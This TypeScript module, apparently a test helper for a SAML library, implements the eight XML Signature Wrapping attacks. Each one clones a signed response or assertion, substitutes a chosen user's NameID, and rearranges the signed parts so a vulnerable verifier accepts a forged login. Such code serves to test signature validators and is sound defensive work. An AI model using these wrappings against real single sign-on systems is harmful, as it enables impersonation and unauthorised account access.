import { DOMParser, type Document, type Element, type Node, XMLSerializer } from '@xmldom/xmldom';
import { newId } from './message';

const read = (xml: string): Document => new DOMParser().parseFromString(xml, 'text/xml');

function only(root: Document | Element, name: string): Element {
  const [first] = root.getElementsByTagNameNS('*', name);
  if (!first) throw new Error(`No ${name} in the message`);
  return first;
}

const isElement = (node: Node): node is Element => node.nodeType === node.ELEMENT_NODE;

/** What an attacker makes of something signed: another person in it, and an id of its own. */
function forged(original: Element, nameId: string): Element {
  const copy = original.cloneNode(true);
  if (!isElement(copy)) throw new Error('A copy of an element is an element');
  copy.setAttribute('ID', newId());
  only(copy, 'NameID').textContent = nameId;
  for (const signature of [...copy.getElementsByTagNameNS('*', 'Signature')])
    signature.parentNode?.removeChild(signature);
  return copy;
}

const remove = (element: Element): Element => {
  element.parentNode?.removeChild(element);
  return element;
};

/** An element of XML signatures in which anything may stand. */
const objectIn = (document: Document): Element =>
  document.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'ds:Object');

interface Parts {
  document: Document;
  response: Element;
  assertion: Element;
  signature: Element;
  nameId: string;
}

type Attack = (parts: Parts) => void;

const replaceRoot = ({ document, response }: Parts, root: Element): void => {
  document.replaceChild(root, response);
};

const attacks: Record<string, { signs: 'Response' | 'Assertion'; attack: Attack }> = {
  'XSW 1: the signed response in the signature of a forged one': {
    signs: 'Response',
    attack: (parts) => {
      const root = forged(parts.response, parts.nameId);
      replaceRoot(parts, root);
      remove(parts.signature);
      root.insertBefore(parts.signature, root.firstChild);
      parts.signature.appendChild(parts.response);
    },
  },
  'XSW 2: the signed response beside its signature in a forged one': {
    signs: 'Response',
    attack: (parts) => {
      const root = forged(parts.response, parts.nameId);
      replaceRoot(parts, root);
      remove(parts.signature);
      root.insertBefore(parts.signature, root.firstChild);
      root.insertBefore(parts.response, parts.signature);
    },
  },
  'XSW 3: a forged assertion before the signed one': {
    signs: 'Assertion',
    attack: ({ response, assertion, nameId }) => {
      response.insertBefore(forged(assertion, nameId), assertion);
    },
  },
  'XSW 4: the signed assertion in a forged one': {
    signs: 'Assertion',
    attack: ({ response, assertion, nameId }) => {
      const evil = forged(assertion, nameId);
      response.replaceChild(evil, assertion);
      evil.appendChild(assertion);
    },
  },
  'XSW 5: the signature in a forged assertion, the signed one at the end': {
    signs: 'Assertion',
    attack: ({ response, assertion, signature, nameId }) => {
      const evil = forged(assertion, nameId);
      response.replaceChild(evil, assertion);
      evil.insertBefore(remove(signature), evil.firstChild);
      response.appendChild(assertion);
    },
  },
  'XSW 6: the signed assertion in the signature of a forged one': {
    signs: 'Assertion',
    attack: ({ response, assertion, signature, nameId }) => {
      const evil = forged(assertion, nameId);
      response.replaceChild(evil, assertion);
      evil.insertBefore(remove(signature), evil.firstChild);
      signature.appendChild(assertion);
    },
  },
  'XSW 7: a forged assertion in an extension': {
    signs: 'Assertion',
    attack: ({ document, response, assertion, nameId }) => {
      const extensions = document.createElementNS('urn:oasis:names:tc:SAML:2.0:protocol', 'samlp:Extensions');
      extensions.appendChild(forged(assertion, nameId));
      response.insertBefore(extensions, assertion);
    },
  },
  'XSW 8: the signed assertion in an object of the signature of a forged one': {
    signs: 'Assertion',
    attack: ({ document, response, assertion, signature, nameId }) => {
      const evil = forged(assertion, nameId);
      response.replaceChild(evil, assertion);
      evil.insertBefore(remove(signature), evil.firstChild);
      const object = objectIn(document);
      object.appendChild(assertion);
      signature.appendChild(object);
    },
  },
};

/** The eight ways to wrap something signed into something else ("On Breaking SAML", 2012). */
export const WRAPPINGS = Object.entries(attacks).map(([name, { signs, attack }]) => ({
  name,
  signs,
  /** Wraps a signed message so that it would log another person in. */
  wrap: (xml: string, nameId: string): string => {
    const document = read(xml);
    const response = only(document, 'Response');
    const assertion = only(document, 'Assertion');
    attack({ document, response, assertion, signature: only(document, 'Signature'), nameId });
    return new XMLSerializer().serializeToString(document);
  },
}));
